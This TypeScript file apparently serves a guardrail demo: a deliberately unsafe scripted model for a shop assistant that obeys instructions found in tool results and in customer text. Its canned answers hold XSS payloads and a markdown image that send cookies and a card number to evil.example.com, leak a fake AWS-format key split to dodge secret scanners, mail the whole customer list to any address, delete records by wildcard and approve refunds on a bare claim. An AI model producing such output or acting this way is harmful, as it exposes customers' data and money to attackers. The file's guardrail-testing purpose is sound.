import { setTimeout } from 'node:timers/promises';
import type { Customer } from '../shop/order-book.js';
import { Model, type Message, type ModelStep } from './assistant.js';

interface Intent {
  readonly pattern: RegExp;
  readonly respond: (text: string, customers: readonly Customer[]) => ModelStep<string>;
}

/**
 * A deliberately unsafe model that needs no network: it matches keywords, accepts every claim, and follows instructions
 * in tool results. It shows how the guardrails handle the worst case.
 */
export class ScriptedModel extends Model {
  constructor(private readonly customers: readonly Customer[]) {
    super();
  }

  override next(conversation: readonly Message[]): ModelStep<string> {
    const last = conversation.at(-1);
    if (last === undefined) return HELP;
    if (last.from === 'customer') return this.obey(last.text) ?? HELP;
    const instruction = INSTRUCTION.exec(last.text)?.[0];
    const injected = instruction === undefined ? null : this.obey(instruction);
    return (
      injected ?? answer(READERS.has(last.tool) ? `Here is what I found. ${last.text}` : `Done. ${last.text}`)
    );
  }

  private obey(text: string) {
    return INTENTS.find(({ pattern }) => pattern.test(text))?.respond(text, this.customers) ?? null;
  }
}

/** 50 tokens a second, as from a real model. */
const TOKEN_PAUSE_MS = 20;

/** The same model for the page: it writes its answers token by token. */
export class TypingModel extends Model {
  private readonly model: ScriptedModel;

  constructor(customers: readonly Customer[]) {
    super();
    this.model = new ScriptedModel(customers);
  }

  override next(conversation: readonly Message[]): ModelStep {
    const step = this.model.next(conversation);
    return step.kind === 'answer' ? { ...step, text: tokensOf(step.text) } : step;
  }
}

async function* tokensOf(text: string): AsyncGenerator<string> {
  for (const [token] of text.matchAll(/.{1,4}/gsu)) {
    await setTimeout(TOKEN_PAUSE_MS);
    yield token;
  }
}

/** Tools whose results answer a question. */
const READERS = new Set(['lookup_order', 'read_mail']);

/** Matches an instruction in a tool result, also one in ordinary words. */
const INSTRUCTION = /\b(?:ignore|disregard|instead|now|please)\b.*/is;

const INTENTS: readonly Intent[] = [
  {
    pattern: /\b(?:html|script|web ?page)\b/i,
    respond: () =>
      answer(
        'Here is your page:\n<h1>Your orders</h1>\n<script>fetch("https://evil.example.com/?c=" + document.cookie)</script>\n' +
          '<img src="x" onerror="alert(1)">',
      ),
  },
  {
    pattern: /\b(?:api|secret|access) ?keys?\b|\bcredentials\b/i,
    respond: () => answer(`Of course. We pay with the key ${PAYMENT_KEY}. Please keep it to yourself.`),
  },
  {
    pattern: /\b(?:image|picture|logo|receipt)\b/i,
    respond: () =>
      answer(
        'Your receipt:\n\n![receipt](https://evil.example.com/collect?order=A-1182&card=4111111111111111)\n\n' +
          '[Open it](javascript:alert(document.cookie))',
      ),
  },
  {
    pattern: /\b(?:e-?mail|send|forward)\b[^]*?\S+@\S+/i,
    respond: (text, customers) => ({
      kind: 'call',
      tool: 'send_email',
      arguments: {
        to: ADDRESS.exec(text)?.[0] ?? '',
        subject: /list/i.test(text) ? 'Our customers' : 'From your support',
        body: /list|customers|everyone/i.test(text)
          ? listOf(customers)
          : (/: (.+)/s.exec(text)?.[1] ?? 'As you asked.'),
      },
    }),
  },
  {
    pattern: /\b(?:inbox|mailbox|(?:new|my) e?-?mails?)\b/i,
    respond: () => ({ kind: 'call', tool: 'read_mail', arguments: {} }),
  },
  {
    pattern: /\b(?:delete|erase|remove)\b/i,
    respond: (text) => ({
      kind: 'call',
      tool: 'delete_record',
      arguments: { order_id: orderIn(text) ?? '*', customer_id: customerIn(text) },
    }),
  },
  {
    pattern: /\b(?:refund|pay\b.*\bback|money back)\b/i,
    respond: (text) => ({
      kind: 'call',
      tool: 'refund',
      arguments: {
        order_id: orderIn(text) ?? 'A-1182',
        euros: amountIn(text) ?? 129,
        customer_id: customerIn(text),
        ...(/without (?:any )?approval|already approved/i.test(text) ? { approved: true } : {}),
      },
    }),
  },
  { pattern: /\bplans?\b/i, respond: () => answer(PLANS) },
  {
    pattern: /\b(?:phone|address|customers|contact)\b/i,
    respond: (_, customers) => answer(`These are our customers.\n${listOf(customers)}`),
  },
  {
    pattern: /\b(?:orders?|parcel|delivery|[A-Z]-\d{4})\b/i,
    respond: (text) => ({
      kind: 'call',
      tool: 'lookup_order',
      arguments: { order_id: orderIn(text) ?? 'A-1182', customer_id: customerIn(text) },
    }),
  },
  {
    pattern: /\b(?:hello|hi|good (?:morning|evening))\b/i,
    respond: () => answer('Hello! What can I do for you?'),
  },
  { pattern: /\bthank/i, respond: () => answer('You are welcome.') },
];

const HELP = answer('I can look up an order, refund it, delete its record, or send an email.');

/** A fake key in a real format. Split in two parts so that secret scanners do not report it. */
const PAYMENT_KEY = ['AKIA', 'QYLPMN5HHHFPZAM2'].join('');

const PLANS = `We have three plans, and you can change between them at the end of each month.

| What you get | Basic | Plus | Business |
| --- | --- | --- | --- |
| Price per month | free | 4.90 euros | 19 euros |
| Delivery time | 3 to 5 days | 2 days | next morning |
| Delivery costs | 4.50 euros | free from 25 euros | always free |
| Returns within | 14 days | 30 days | 90 days |
| Refunds are paid | in 10 days | in 3 days | on the same day |
| Support by | email | email and chat | email, chat and phone |
| Gift wrapping | 2 euros | free | free, with your logo |
| Invoices | one per order | one per order | one per month |
| Best for | a few orders a year | an order a month | shops and offices |

Most customers with more than one order a month save money with Plus.`;

const ADDRESS = /[^\s@<>()]+@[^\s@<>(),;]*[a-z]/i;

function answer(text: string): ModelStep<string> {
  return { kind: 'answer', text };
}

function orderIn(text: string) {
  return /\b[A-Z]-\d{4}\b/i.exec(text)?.[0].toUpperCase() ?? null;
}

function amountIn(text: string) {
  const [, amount] = /(-?\d+(?:\.\d+)?) ?(?:€|euros?)/i.exec(text) ?? [];
  return amount === undefined ? null : Number(amount);
}

/** The customer id that the text claims, without any check. */
function customerIn(text: string) {
  const [, number] = /\bcustomer(?:[_ -]id)?[ :=-]*(\d+)\b/i.exec(text) ?? [];
  return `customer-${number ?? '42'}`;
}

function listOf(customers: readonly Customer[]) {
  return customers.map(({ name, email, phone }) => `- ${name}, ${email}, ${phone}`).join('\n');
}
